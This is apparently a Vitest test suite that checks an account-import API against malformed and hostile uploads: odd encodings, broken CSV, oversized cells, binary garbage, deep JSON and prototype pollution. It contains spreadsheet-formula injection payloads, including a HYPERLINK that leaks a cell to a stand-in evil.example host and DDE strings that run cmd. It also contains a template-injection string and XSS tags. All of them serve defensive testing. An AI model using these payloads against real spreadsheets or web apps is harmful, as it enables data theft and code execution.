import { request } from "node:http";
import { DEMO_ICP, prng } from "@icp/core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type TestStack, testStack, waitForImport } from "../support/stack.js";

/**
 * Hostile and sloppy uploads against the real stack: encodings spreadsheets really write,
 * broken quoting, huge lines, formula injection, binary garbage, a needle of one good row
 * in a haystack of bad ones, and malformed JSON. Bad input must be a 4xx problem (never a
 * 5xx), good rows must survive bad ones, and prospect data must only ever come back as JSON.
 */
let s: TestStack;
beforeAll(async () => {
  s = await testStack();
  expect((await s.api("/v1/icps", { method: "POST", json: DEMO_ICP })).status).toBe(201);
});
afterAll(() => s?.stop());

type Init = Parameters<TestStack["api"]>[1];
// biome-ignore lint/suspicious/noExplicitAny: response bodies in assertions
type Json = Record<string, any>;

/** Prospect data is served as JSON only: a browser must never render or run it. */
function expectJsonResponse(res: Response, what: string) {
  if (res.status === 204) return;
  expect(res.headers.get("content-type"), `${what} -> ${res.status}`).toMatch(/^application\/(problem\+)?json\b/);
}

async function call(path: string, init?: Init): Promise<Response> {
  const res = await s.api(path, init);
  expectJsonResponse(res, `${init?.method ?? "GET"} ${path}`);
  return res;
}

async function expectProblem(res: Response, status: number): Promise<Json> {
  expect(res.status).toBe(status);
  expect(res.headers.get("content-type")).toContain("application/problem+json");
  const body = (await res.json()) as Json;
  expect(body).toMatchObject({ type: expect.stringMatching(/^\/problems\//), title: expect.any(String), status });
  expect(typeof body.detail).toBe("string");
  return body;
}

/** Upload a body (CSV unless told), wait for ingestion, return the finished job and the POST's answer. */
async function importBytes(body: Uint8Array<ArrayBuffer> | string, type = "text/csv"): Promise<Json> {
  const res = await call("/v1/imports", { method: "POST", body, headers: { "content-type": type } });
  const job = (await res.json()) as Json;
  expect(res.status, JSON.stringify(job)).toBe(202);
  return { ...(await waitForImport(s, job.id)), posted: job };
}

const account = async (domain: string): Promise<Json> => {
  const res = await call(`/v1/accounts/${domain}`);
  expect(res.status, domain).toBe(200);
  return (await res.json()) as Json;
};

/**
 * POST a body in chunks, without Content-Length, on a connection of its own: the server answers
 * 413 and hangs up before the body ends, which would break a pooled fetch connection.
 */
function postChunked(path: string, type: string, chunks: Uint8Array<ArrayBuffer>[]) {
  return new Promise<{ status: number; type: string; body: string }>((resolve, reject) => {
    let answered = false;
    const req = request(
      `${s.url}${path}`,
      {
        method: "POST",
        agent: false,
        headers: { authorization: `Bearer ${s.apiKey}`, "content-type": type, "transfer-encoding": "chunked" },
      },
      (res) => {
        answered = true;
        let body = "";
        res.setEncoding("utf8");
        res.on("data", (d: string) => {
          body += d;
        });
        res.on("end", () => resolve({ status: res.statusCode ?? 0, type: String(res.headers["content-type"]), body }));
      },
    );
    req.on("error", (e) => {
      if (!answered) reject(e);
    });
    for (const c of chunks) req.write(c);
    req.end();
  });
}

/** Excel's "CSV" on Windows: windows-1252, which differs from latin1 in 0x80–0x9F (€, ’, œ…). */
const CP1252_EXTRA: Record<string, number> = { "€": 0x80, "’": 0x92, "–": 0x96, œ: 0x9c };
function cp1252(text: string): Uint8Array<ArrayBuffer> {
  return Uint8Array.from([...text], (ch) => {
    const code = CP1252_EXTRA[ch] ?? ch.charCodeAt(0);
    if (code > 0xff) throw new Error(`${ch} is not in windows-1252`);
    return code;
  });
}

const utf16le = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, "utf16le"));
const utf16be = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, "utf16le").swap16());

describe("encodings", () => {
  it("strips a UTF-8 BOM so the first column is still recognized", async () => {
    const job = await importBytes("\ufeffWebsite,Company\nbom-co.example.com,Bøm Ünïcode GmbH\n");
    expect(job).toMatchObject({ status: "completed", accepted: 1, rejected: 0 });
    expect((await account("bom-co.example.com")).name).toBe("Bøm Ünïcode GmbH");
  });

  it("decodes UTF-16 LE (Excel 'Unicode text', tab-separated) and UTF-16 BE with a BOM", async () => {
    const le = await importBytes(
      utf16le("Website\tCompany\tCountry\nutf16le.example.com\tZürich Straße AG\tSchweiz\n"),
    );
    expect(le).toMatchObject({ accepted: 1, rejected: 0 });
    const a = await account("utf16le.example.com");
    expect([a.name, a.facts.country]).toEqual(["Zürich Straße AG", "Schweiz"]);
    const be = await importBytes(utf16be("Website,Company\nutf16be.example.com,東京 Kabushiki 株式会社\n"));
    expect(be).toMatchObject({ accepted: 1, rejected: 0 });
    expect((await account("utf16be.example.com")).name).toBe("東京 Kabushiki 株式会社");
  });

  it("reads bytes that are not UTF-8 as windows-1252 (Excel's CSV), semicolons included", async () => {
    const csv = [
      "Website;Company;Industry;Country",
      "societe-generale.example.fr;Société Générale;Banque & Crédit;France",
      "loreal.example.fr;L’Oréal – Cœur € Beauté;Cosmétiques;Île-de-France",
    ].join("\r\n");
    expect(() => new TextDecoder("utf-8", { fatal: true }).decode(cp1252(csv))).toThrow();
    const job = await importBytes(cp1252(csv));
    expect(job).toMatchObject({ accepted: 2, rejected: 0 });
    const sg = await account("societe-generale.example.fr");
    expect([sg.name, sg.facts.industry]).toEqual(["Société Générale", "Banque & Crédit"]);
    expect((await account("loreal.example.fr")).name).toBe("L’Oréal – Cœur € Beauté");
  });
});

describe("CSV structure", () => {
  it("handles CRLF line endings: values without \\r, errors on the right line", async () => {
    const job = await importBytes(
      "Website,Company\r\ncrlf-1.example.com,Crlf One\r\nnot a domain,X\r\ncrlf-2.example.com,Two\r\n",
    );
    expect(job).toMatchObject({ accepted: 2, rejected: 1 });
    expect(job.errors).toEqual([{ line: 3, field: "domain", message: expect.stringContaining("not a domain") }]);
    expect((await account("crlf-1.example.com")).name).toBe("Crlf One");
    expect((await account("crlf-2.example.com")).name).toBe("Two");
  });

  it("keeps quotes and embedded newlines in cells and numbers errors by the row's first line", async () => {
    const csv = [
      "Website,Company,Industry",
      'quoted-1.example.com,"Quote ""Q"" Inc","Multi', // line 2, the row spans lines 2-4
      "line",
      'industry"',
      'not a domain,"Also', // line 5, spans 5-6
      'multi"',
      'quoted-2.example.com,Acme "The" Co,"a, b"', // line 7: a bare quote inside an unquoted cell is kept
      '"bad,domain",x,y', // line 8
      "",
    ].join("\n");
    const job = await importBytes(csv);
    expect(job).toMatchObject({ total: 4, accepted: 2, rejected: 2 });
    expect(job.errors.map((e: Json) => [e.line, e.field])).toEqual([
      [5, "domain"],
      [8, "domain"],
    ]);
    const q1 = await account("quoted-1.example.com");
    expect([q1.name, q1.facts.industry]).toEqual(['Quote "Q" Inc', "Multi\nline\nindustry"]);
    const q2 = await account("quoted-2.example.com");
    expect([q2.name, q2.facts.industry]).toEqual(['Acme "The" Co', "a, b"]);
  });

  it("numbers lines the way editors do with CRLF inside quoted cells and old-Mac CR line endings", async () => {
    const crlf = await importBytes(
      [
        "Website,Company,Industry",
        'cr-1.example.com,"Two\r\nlines","and\r\nmore"', // lines 2-4
        "not a domain,X,Y", // line 5
        "cr-2.example.com,Z,W",
        "",
      ].join("\r\n"),
    );
    expect(crlf.errors).toEqual([expect.objectContaining({ line: 5, field: "domain" })]);
    expect((await account("cr-1.example.com")).name).toBe("Two\nlines");
    const cr = await importBytes('Website,Company\rcr-3.example.com,"a\rb"\r\rnot a domain,X\rcr-4.example.com,Y\r');
    expect(cr).toMatchObject({ accepted: 2, rejected: 1 });
    expect(cr.errors).toEqual([expect.objectContaining({ line: 5, field: "domain" })]);
  });

  it("refuses a file whose quoting is broken with the line where it breaks", async () => {
    const res = await call("/v1/imports", {
      method: "POST",
      csv: 'Website,Company\nok.example.com,A\nb.example.com,"B" x\n',
    });
    const p = await expectProblem(res, 400);
    expect(p.errors).toEqual([expect.objectContaining({ field: "file", line: 3 })]);
    // An unclosed quote swallows the rest of the file: name the row where it opens, not the end of the file.
    const csv = 'Website,Company\r\nok.example.com,A\r\n\r\nb.example.com,"never closed\r\nc.example.com,C\r\n';
    const unclosed = await expectProblem(await call("/v1/imports", { method: "POST", csv }), 400);
    expect(unclosed.detail).toMatch(/quote opened in the row at line 4 is never closed/);
    expect(unclosed.errors).toEqual([expect.objectContaining({ field: "file", line: 4 })]);
  });

  it("rejects a row with a several-MB cell by its line and keeps the others, quickly", async () => {
    const huge = "x".repeat(4 * 1024 * 1024);
    const csv = [
      "Website,Company",
      "huge-1.example.com,Fine",
      `huge-2.example.com,${huge}`, // line 3: a several-MB name
      `${huge}.com,Y`, // line 4: a several-MB domain
      "huge-3.example.com,Also fine",
      "",
    ].join("\n");
    const t0 = performance.now();
    const res = await call("/v1/imports", { method: "POST", csv });
    const ms = performance.now() - t0;
    const text = await res.text();
    expect(res.status, text.slice(0, 300)).toBe(202);
    expect(ms).toBeLessThan(5_000);
    expect(text.length).toBeLessThan(10_000); // errors quote at most a prefix of the bad value
    const job = JSON.parse(text) as Json;
    expect(job).toMatchObject({ total: 4, rejected: 2 });
    expect(job.errors.map((e: Json) => [e.line, e.field])).toEqual([
      [3, "name"],
      [4, "domain"],
    ]);
    expect(await waitForImport(s, job.id)).toMatchObject({ status: "completed", accepted: 2, rejected: 2 });
    expect((await account("huge-3.example.com")).name).toBe("Also fine");
  });
});

describe("formula and template injection", () => {
  const payloads = {
    name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    industry: "+cmd|' /C calc'!A0",
    country: "@SUM(1+1)*cmd|' /C calc'!A0",
    firstName: "-2+3",
    lastName: "{{constructor.constructor('return process')()}}",
    title: "<script>alert(1)</script><img src=x onerror=alert(2)>",
  };

  it("stores spreadsheet formulas and markup from a CSV verbatim, as plain strings", async () => {
    const cell = (v: string) => `"${v.replaceAll('"', '""')}"`;
    const p = payloads;
    const csv = [
      "Website,Company,Industry,Country,First Name,Last Name,Title,Email,Employees",
      ["formula-csv.example.com", p.name, p.industry, p.country, p.firstName, p.lastName, p.title, "", ""]
        .map(cell)
        .join(","),
      "formula-num.example.com,Num,,,,,,,=1+1",
    ].join("\n");
    const job = await importBytes(csv);
    // "=1+1" is not evaluated to 2: it is not a number.
    expect(job.errors).toEqual([{ line: 3, field: "employees", message: '"=1+1" is not a number' }]);
    const a = await account("formula-csv.example.com");
    expect(a.name).toBe(p.name);
    expect(a.facts).toMatchObject({ industry: p.industry, country: p.country });
    expect(a.contacts).toEqual([
      expect.objectContaining({ firstName: p.firstName, lastName: p.lastName, title: p.title }),
    ]);
  });

  it("stores the same payloads from a JSON import verbatim", async () => {
    const p = payloads;
    const job = await importBytes(
      JSON.stringify({
        accounts: [
          {
            domain: "formula-json.example.com",
            name: p.name,
            industry: p.industry,
            country: p.country,
            technologies: ["=A1+A2", "@SUM(A1)"],
            contacts: [{ firstName: p.firstName, lastName: p.lastName, title: p.title }],
          },
        ],
      }),
      "application/json",
    );
    expect(job).toMatchObject({ accepted: 1, rejected: 0 });
    const a = await account("formula-json.example.com");
    expect([a.name, a.facts.industry, a.facts.country]).toEqual([p.name, p.industry, p.country]);
    expect(a.facts.technologies).toEqual(["=A1+A2", "@SUM(A1)"]);
    expect(a.contacts[0]).toMatchObject({ firstName: p.firstName, lastName: p.lastName, title: p.title });
  });
});

describe("binary garbage", () => {
  const random = (n: number, seed: number, noNul = false) => {
    const r = prng(seed);
    return Uint8Array.from({ length: n }, () => {
      const b = Math.floor(r() * 256);
      return noNul && b === 0 ? 1 : b;
    });
  };

  it("refuses random bytes, spreadsheets and images with 400 'not text' naming the file", async () => {
    const xlsx = Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, ...random(2000, 7)]);
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...random(500, 8)]);
    const cases: [string, Uint8Array<ArrayBuffer>][] = [
      ["random.bin", random(64 * 1024, 1)],
      ["accounts.xlsx", xlsx],
      ["logo.png", png],
      ["no-nul.dat", random(2000, 3, true)],
      ["after-bom.csv", Uint8Array.from([0xef, 0xbb, 0xbf, ...random(1000, 4, true)])],
    ];
    for (const [name, body] of cases) {
      const res = await call(`/v1/imports?filename=${name}`, {
        method: "POST",
        body,
        headers: { "content-type": "text/csv" },
      });
      const p = await expectProblem(res, 400);
      expect(p.detail, name).toContain(`"${name}": the file is not text (binary data)`);
      expect(p.errors).toEqual([{ field: "file", message: "the file is not text (binary data)" }]);
    }
  });

  it("answers random bytes of any size and declared type with a 4xx problem, never a 5xx", async () => {
    const r = prng(99);
    for (let i = 0; i < 60; i++) {
      const body = random(1 + Math.floor(r() * 4000), 1000 + i);
      const type = ["text/csv", "text/plain", "application/json", "application/csv"][i % 4] ?? "text/csv";
      const res = await call("/v1/imports", { method: "POST", body, headers: { "content-type": type } });
      expect(res.status, `${type} #${i}`).toBeGreaterThanOrEqual(400);
      expect(res.status, `${type} #${i}`).toBeLessThan(500);
      await expectProblem(res, res.status);
    }
  });
});

describe("one good row among 10,000", () => {
  it("imports the good row and reports every bad one with its line, errors capped at 10,000", async () => {
    // Line 1 header, line 3 the good row, every other line (2, 4..10001) two errors each.
    const lines = ["Website,Employees"];
    for (let i = 0; i < 10_000; i++) lines.push(i === 1 ? "needle.example.com,120" : `bad domain ${i},lots`);
    const res = await call("/v1/imports", { method: "POST", csv: `${lines.join("\n")}\n` });
    const posted = (await res.json()) as Json;
    expect(res.status).toBe(202);
    expect(posted).toMatchObject({ total: 10_000, rejected: 9_999, accounts: 1 });
    expect(posted.errors).toHaveLength(100);
    const done = await waitForImport(s, posted.id);
    expect(done).toMatchObject({ status: "completed", accepted: 1, rejected: 9_999, total: 10_000 });
    expect((await account("needle.example.com")).facts.employees).toBe(120);

    const stored: Json[] = [];
    let cursor: string | undefined;
    do {
      const page = (await (
        await call(
          `/v1/imports/${posted.id}?errorsLimit=1000${cursor ? `&errorsCursor=${encodeURIComponent(cursor)}` : ""}`,
        )
      ).json()) as Json;
      stored.push(...page.errors);
      cursor = page.errorsNextCursor;
    } while (cursor);
    expect(stored).toHaveLength(10_000);
    const expectedLines = [2, ...Array.from({ length: 4_999 }, (_, i) => i + 4)];
    expect(stored.map((e) => e.line)).toEqual(expectedLines.flatMap((l) => [l, l]));
    expect(stored.slice(0, 2)).toEqual([
      { line: 2, field: "domain", message: '"bad domain 0" is not a domain or website' },
      { line: 2, field: "employees", message: '"lots" is not a number' },
    ]);
    expect(stored.at(-1)).toEqual({ line: 5_002, field: "employees", message: '"lots" is not a number' });
  });
});

describe("numbers DynamoDB cannot store", () => {
  it("rejects only the row with an out-of-range number; the rest of its chunk is ingested", async () => {
    const job = await importBytes(
      JSON.stringify({
        accounts: [
          { domain: "range-ok.example.com", revenue: 2_500_000 },
          { domain: "range-big.example.com", revenue: 1e200 },
          { domain: "range-tiny.example.com", signals: [{ type: "funding", at: "2026-10-01", amount: 5e-324 }] },
          // Above 2^53 the DynamoDB document client throws (it wants a NumberValue).
          { domain: "range-unsafe.example.com", revenue: 1e17 },
          { domain: "range-unsafe2.example.com", signals: [{ type: "funding", at: "2026-10-01", amount: 5e16 }] },
        ],
      }),
      "application/json",
    );
    expect(job).toMatchObject({ status: "completed", accepted: 1, rejected: 4 });
    expect(job.posted.errors.map((e: Json) => [e.line, e.field])).toEqual([
      [2, "revenue"],
      [3, expect.stringMatching(/^signals\.(0\.)?amount$/)],
      [4, "revenue"],
      [5, "signals.0.amount"],
    ]);
    expect((await account("range-ok.example.com")).facts.revenue).toBe(2_500_000);
    const csv = await importBytes(
      [
        "Website,Annual Revenue,Signals",
        "range-csv.example.com,2M,",
        `range-csv2.example.com,${"9".repeat(200)},`,
        `range-csv3.example.com,,funding:2026-10-01:${"9".repeat(130)}`,
        "",
      ].join("\n"),
    );
    expect(csv).toMatchObject({ status: "completed", accepted: 1, rejected: 2 });
  });

  it("answers 400 to an errorsCursor it never returned", async () => {
    const job = await importBytes("Website\ncursor.example.com\nnot a domain\n");
    for (const cursor of ["garbage", "ERR#", "A", "x".repeat(100)]) {
      const res = await call(`/v1/imports/${job.id}?errorsCursor=${encodeURIComponent(cursor)}`);
      expect((await expectProblem(res, 400)).errors).toEqual([{ field: "errorsCursor", message: "invalid cursor" }]);
    }
  });
});

describe("JSON bodies", () => {
  const postJson = (path: string, body: string, method = "POST") =>
    call(path, { method, body, headers: { "content-type": "application/json" } });

  it("reports wrong types and nested garbage per row and keeps the good rows", async () => {
    const job = await importBytes(
      JSON.stringify({
        accounts: [
          { domain: true },
          { domain: ["types-a.example.com"] },
          { domain: { nested: [1, { deeper: null }] } },
          { domain: "types-b.example.com", employees: "many" },
          { domain: "types-c.example.com", contacts: [{ email: { a: { b: [] } } }] },
          { domain: "types-d.example.com", signals: [{ type: "funding", at: 20261001 }] },
          { domain: "types-e.example.com", technologies: [1, [2], { x: 3 }] },
          null,
          42,
          [["x"]],
          { domain: "types-ok.example.com", employees: 75, name: "Types OK" },
        ],
      }),
      "application/json",
    );
    expect(job).toMatchObject({ total: 11, accepted: 1, rejected: 10 });
    expect([...new Set(job.posted.errors.map((e: Json) => e.line))]).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    expect(job.posted.errors.slice(0, 4).map((e: Json) => e.field)).toEqual([
      "domain",
      "domain",
      "domain",
      "employees",
    ]);
    expect((await account("types-ok.example.com")).name).toBe("Types OK");
  });

  it("answers 10,000-deep nesting with 400, not a stack overflow", async () => {
    const deepArray = `${"[".repeat(10_000)}${"]".repeat(10_000)}`;
    const deepObject = `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`;
    for (const deep of [deepArray, deepObject]) {
      await expectProblem(await postJson("/v1/imports", deep), 400);
      await expectProblem(await postJson("/v1/icps", deep), 400);
      await expectProblem(await postJson("/v1/icps", `{"name":"x","criteria":${deep}}`), 400);
      await expectProblem(await postJson("/v1/accounts/bom-co.example.com/signals", `{"signals":${deep}}`), 400);
    }
    const res = await postJson("/v1/imports", `{"accounts":[{"domain":"deep.example.com","contacts":${deepArray}}]}`);
    expect((await expectProblem(res, 422)).errors[0]).toMatchObject({ line: 1, field: expect.any(String) });
    // Deep garbage under a key no schema knows is dropped, not stored (DynamoDB allows 32 levels).
    const job = await importBytes(
      `{"accounts":[{"domain":"deep.example.com","contact":${deepObject},"junk":${deepObject}}]}`,
      "application/json",
    );
    expect(job).toMatchObject({ accepted: 1, rejected: 0 });
    expect((await account("deep.example.com")).contacts).toEqual([]);
  });

  it("ignores unknown fields instead of storing them", async () => {
    const created = await postJson(
      "/v1/icps",
      JSON.stringify({ ...DEMO_ICP, name: "Extra fields", isAdmin: true, constructor: { prototype: { x: 1 } } }),
    );
    const icp = (await created.json()) as Json;
    expect(created.status, JSON.stringify(icp)).toBe(201);
    const got = (await (await call(`/v1/icps/${icp.id}`)).json()) as Json;
    expect(got.name).toBe("Extra fields");
    expect(got).not.toHaveProperty("isAdmin");
    expect(Object.hasOwn(got, "constructor")).toBe(false);

    const job = await importBytes(
      JSON.stringify({
        accounts: [{ domain: "extra.example.com", favouriteColour: "red", admin: { yes: 1 } }],
        junk: 1,
      }),
      "application/json",
    );
    expect(job).toMatchObject({ accepted: 1, rejected: 0 });
    const a = await account("extra.example.com");
    expect(JSON.stringify(a)).not.toMatch(/favouriteColour|admin/);

    const sig = await postJson(
      "/v1/accounts/extra.example.com/signals",
      JSON.stringify({ signals: [{ type: "hiring", at: "2026-11-01", detail: "VP Sales", rogue: true }], extra: [1] }),
    );
    expect(sig.status).toBe(200);
    const timelineText = JSON.stringify(await account("extra.example.com"));
    expect(timelineText).not.toContain("rogue");
  });

  it("treats __proto__ and constructor as unknown keys: no row refused, no prototype pollution", async () => {
    const body = JSON.stringify({
      accounts: [{ domain: "proto.example.com", constructor: "x", toString: { a: 1 }, hasOwnProperty: 1 }],
    }).replace('"accounts"', '"__proto__":{"polluted":"yes"},"accounts"');
    const withProto = body.replace('"constructor"', '"__proto__":{"isAdmin":true},"constructor"');
    const job = await importBytes(withProto, "application/json");
    expect(job).toMatchObject({ accepted: 1, rejected: 0 });
    expect(({} as Json).polluted).toBeUndefined();
    expect(JSON.stringify(await account("proto.example.com"))).not.toMatch(/isAdmin|polluted/);
  });

  it("accepts a JSON upload saved with a UTF-8 BOM", async () => {
    const job = await importBytes('\ufeff{"accounts":[{"domain":"json-bom.example.com"}]}', "application/json");
    expect(job).toMatchObject({ accepted: 1 });
  });
});

describe("limits and content types not covered in test/api", () => {
  it("refuses a JSON upload over 25 MB and a chunked CSV upload over 25 MB (no Content-Length) with 413", async () => {
    const json = `{"accounts":[${'{"domain":"a.example.com"},'.repeat(1_000_000)}{"domain":"b.example.com"}]}`;
    expect(json.length).toBeGreaterThan(25 * 1024 * 1024);
    await expectProblem(
      await call("/v1/imports", { method: "POST", body: json, headers: { "content-type": "application/json" } }),
      413,
    );

    const chunk = new TextEncoder().encode("row.example.com\n".repeat(64 * 1024)); // 1 MB
    const res = await postChunked("/v1/imports", "text/csv", [
      new TextEncoder().encode("Website\n"),
      ...Array.from({ length: 27 }, () => chunk),
    ]);
    expect(res.status).toBe(413);
    expect(res.type).toContain("application/problem+json");
    expect(JSON.parse(res.body).type).toBe("/problems/payload-too-large");
  });

  it("answers 415 for a missing content type and multipart, and accepts charset and case variants", async () => {
    const csv = "Website\nctype.example.com\n";
    await expectProblem(await call("/v1/imports", { method: "POST", body: new Blob([csv]) }), 415);
    await expectProblem(
      await call("/v1/imports", {
        method: "POST",
        body: csv,
        headers: { "content-type": "multipart/form-data; boundary=x" },
      }),
      415,
    );
    for (const type of ["text/csv; charset=utf-8", "TEXT/CSV", "application/csv", "text/plain; charset=windows-1252"]) {
      const res = await call("/v1/imports", { method: "POST", body: csv, headers: { "content-type": type } });
      expect(res.status, type).toBe(202);
    }
  });
});

describe("responses are JSON only", () => {
  it("serves every route as application/json or problem+json, except the documented pages for people; /docs is HTML", async () => {
    type Op = { responses: Record<string, { content?: Record<string, unknown> }> };
    const { paths } = (await (await call("/openapi.json")).json()) as { paths: Record<string, Record<string, Op>> };
    const pages: string[] = [];
    for (const [path, ops] of Object.entries(paths)) {
      const concrete = path.replace(/\{[^}]+\}/g, "bom-co.example.com");
      for (const [method, op] of Object.entries(ops)) {
        if (method === "delete") continue; // erasing data is covered elsewhere; here the shape matters
        const what = `${method} ${concrete}`;
        const res = await s.api(concrete, { method: method.toUpperCase(), ...(method === "get" ? {} : { json: {} }) });
        expect(res.status, what).toBeLessThan(500);
        // A non-JSON answer only where its operation documents it for that status (the open pixel's
        // GIF, the unsubscribe pages' HTML); everything else is JSON or problem+json.
        const type = res.headers.get("content-type") ?? "";
        const documented = Object.keys(op.responses[String(res.status)]?.content ?? {});
        if (documented.some((t) => !/json/.test(t) && type.startsWith(t))) pages.push(`${what} ${type}`);
        else expectJsonResponse(res, what);
      }
    }
    expect(pages.sort()).toEqual([
      "get /t/o/bom-co.example.com image/gif",
      "get /u/bom-co.example.com text/html; charset=UTF-8",
      "post /u/bom-co.example.com text/html; charset=UTF-8",
    ]);
    for (const path of ["/health", "/nope", "/v1/nope", "/v1/accounts/%00", "/v1/accounts/<script>"]) await call(path);
    const anon = await fetch(`${s.url}/v1/accounts`);
    expectJsonResponse(anon, "anonymous");
    expect(anon.status).toBe(401);
    const docs = await fetch(`${s.url}/docs`);
    expect(docs.headers.get("content-type")).toContain("text/html");
  });
});
